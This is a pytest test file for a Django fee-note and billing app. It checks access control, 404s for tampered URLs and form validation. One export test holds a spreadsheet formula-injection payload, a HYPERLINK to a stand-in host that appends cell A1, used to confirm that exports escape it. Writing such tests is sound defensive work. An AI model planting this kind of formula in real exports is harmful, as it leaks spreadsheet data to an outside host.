"""The pages: a patient's fee notes and downloads (theirs only), the practitioner's documents,
statements and billing details (theirs only, never a secretary's), tampered input answered
with 404 or a form error, never a 500."""

import pytest
from django.test import Client
from django.urls import reverse

import invoices.urls
from bookings.models import AgendaDelegation
from invoices.models import BillingDetails, Document
from tests.factories import PractitionerFactory, UserFactory
from tests.invoices.conftest import NOW, SIRET, pdf_text

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("site_tree")]


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_the_patient_finds_and_downloads_their_fee_notes(details, captured, patient, tmp_path):
    note = Document.objects.get()
    client = client_for(patient)
    page = client.get("/en/account/fee-notes/")
    assert page.status_code == 200
    html = page.content.decode()
    assert note.number in html and "Claire Martin" in html and "€60.00" in html
    for language, words in (("fr", "Note d’honoraires"), ("en", "Fee note")):
        response = client.get(f"/account/fee-notes/{note.pk}/{language}.pdf")
        assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
        assert response["Cache-Control"] == "private, no-store"
        assert words.casefold() in pdf_text(response.content, tmp_path).casefold()
    recap = client.get(f"/en/account/fee-notes/{note.year}/recap-en.pdf")
    assert recap.status_code == 200
    text = " ".join(pdf_text(recap.content, tmp_path).split())
    assert "Alice Durand" in text and note.number in text and "€60.00" in text


def test_nobody_else_opens_a_patients_note(details, captured, claire):
    note = Document.objects.get()
    stranger = client_for(UserFactory(email="stranger@example.test"))
    assert stranger.get(f"/account/fee-notes/{note.pk}/fr.pdf").status_code == 404
    assert stranger.get(f"/account/fee-notes/{note.year}/recap-fr.pdf").status_code == 404
    other = PractitionerFactory(slug="other")
    assert client_for(other.user).get(f"/pro/fee-notes/{note.pk}/fr.pdf").status_code == 404
    assert Client().get(f"/account/fee-notes/{note.pk}/fr.pdf").status_code == 302  # log in


@pytest.mark.parametrize(
    "address",
    [
        "/account/fee-notes/1/de.pdf",
        "/account/fee-notes/999999/fr.pdf",
        "/account/fee-notes/abc/fr.pdf",
        "/account/fee-notes/2026/recap-xx.pdf",
        "/pro/fee-notes/999999/en.pdf",
        "/pro/fee-notes/statement-2026-13-fr.pdf",
        "/pro/fee-notes/statement-1999-01-fr.pdf",
    ],
)
def test_tampered_addresses_answer_404(details, claire, address):
    assert client_for(claire.user).get(address).status_code == 404


def test_the_practitioner_sees_the_notes_issued_in_their_name(details, captured, claire, tmp_path):
    note = Document.objects.get()
    client = client_for(claire.user)
    page = client.get("/en/pro/fee-notes/")
    html = page.content.decode()
    assert page.status_code == 200 and note.number in html and "Alice Durand" in html
    assert client.get(f"/pro/fee-notes/{note.pk}/fr.pdf").status_code == 200
    month = note.issued_at.astimezone(claire.time_zone)
    statement = client.get(f"/en/pro/fee-notes/statement-{month:%Y}-{month.month}-en.pdf")
    assert statement.status_code == 200
    text = " ".join(pdf_text(statement.content, tmp_path).split())
    assert "Alice" in text and note.number in text


def test_a_secretary_opens_none_of_these_pages(details, captured, claire):
    secretary = UserFactory(email="anna@example.test")
    AgendaDelegation.objects.create(practitioner=claire, delegate=secretary, created_at=NOW)
    note = Document.objects.get()
    client = client_for(secretary)
    samples = {"pk": note.pk, "language": "fr", "year": 2026, "month": 12}
    checked = 0
    for pattern in invoices.urls.urlpatterns:
        if getattr(pattern.callback, "space_access", None) is None:
            continue
        assert pattern.callback.space_access == "practitioner"
        kwargs = {name: samples[name] for name in pattern.pattern.converters}
        url = reverse(f"invoices:{pattern.name}", kwargs=kwargs)
        assert client.get(url).status_code == 403, url
        assert client.post(url).status_code in (403, 405), url
        checked += 1
    assert checked == 4


def test_billing_details_explain_every_mistake_and_keep_what_was_typed(claire):
    client = client_for(claire.user)
    page = client.get("/en/pro/billing-details/")
    assert page.status_code == 200 and 'value="Claire Martin"' in page.content.decode()
    response = client.post(
        "/en/pro/billing-details/",
        {
            "legal_name": "Claire Martin",
            "profession": "Sophrologue",
            "address": "Lyon",
            "siret": "732 829 320 00075",
            "adeli": "12",
            "rpps": "",
            "vat_regime": "rate",
            "vat_rate": "abc",
        },
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert "This SIRET is not valid" in html and "An ADELI number has 9 digits." in html
    assert "Give the VAT rate you charge" in html and 'value="732 829 320 00075"' in html
    assert not BillingDetails.objects.exists()


@pytest.mark.parametrize(
    ("field", "value", "reason"),
    [
        ("vat_rate", "NaN", "Give the VAT rate you charge"),
        ("vat_rate", "Infinity", "Give the VAT rate you charge"),
        ("siret", "7328293200007²", "A SIRET has 14 digits."),
        ("siret", "７３２８２９３２００００７４", "A SIRET has 14 digits."),  # full-width digits
        ("adeli", "69951234５", "An ADELI number has 9 digits."),
    ],
)
def test_odd_numbers_are_explained_never_a_server_error(claire, field, value, reason):
    values = {
        "legal_name": "Claire Martin",
        "profession": "Sophrologue",
        "address": "Lyon",
        "siret": SIRET,
        "adeli": "",
        "rpps": "",
        "vat_regime": "rate",
        "vat_rate": "20",
        field: value,
    }
    response = client_for(claire.user).post("/en/pro/billing-details/", values)
    assert response.status_code == 400 and reason in response.content.decode()
    assert not BillingDetails.objects.exists()


def test_names_typed_by_people_never_run_as_formulas_in_the_exports():
    from khepri.spreadsheet import text_cell

    assert text_cell('=HYPERLINK("http://x.example/?"&A1,"Zoé")').startswith("'=")
    assert [text_cell(v) for v in ("+33 6", "-1", "@SUM(A1)", "Zoé Durand", "")] == [
        "'+33 6",
        "'-1",
        "'@SUM(A1)",
        "Zoé Durand",
        "",
    ]


def test_saving_billing_details_issues_the_waiting_notes(claire, captured):
    client = client_for(claire.user)
    assert "Your fee notes need your billing details" in client.get("/en/pro/").content.decode()
    page = client.get("/en/pro/fee-notes/").content.decode()
    assert "1 document is waiting for them." in page
    response = client.post(
        "/en/pro/billing-details/",
        {
            "legal_name": "Claire Martin",
            "profession": "Sophrologue",
            "address": "8 rue des Lilas\r\n69003 Lyon",
            "siret": "732 829 320 00074",
            "adeli": "",
            "rpps": "100 0345 6789",
            "vat_regime": "rate",
            "vat_rate": "20",
        },
        follow=True,
    )
    assert response.status_code == 200
    assert "The fee notes that were waiting have been issued." in response.content.decode()
    details = BillingDetails.objects.get()
    assert (details.siret, details.rpps, details.vat_rate_bp) == (SIRET, "10003456789", 2000)
    note = Document.objects.get()
    assert note.issuer["rpps"] == "10003456789" and note.vat_cents == 1000
    assert "need your billing details" not in client.get("/en/pro/").content.decode()
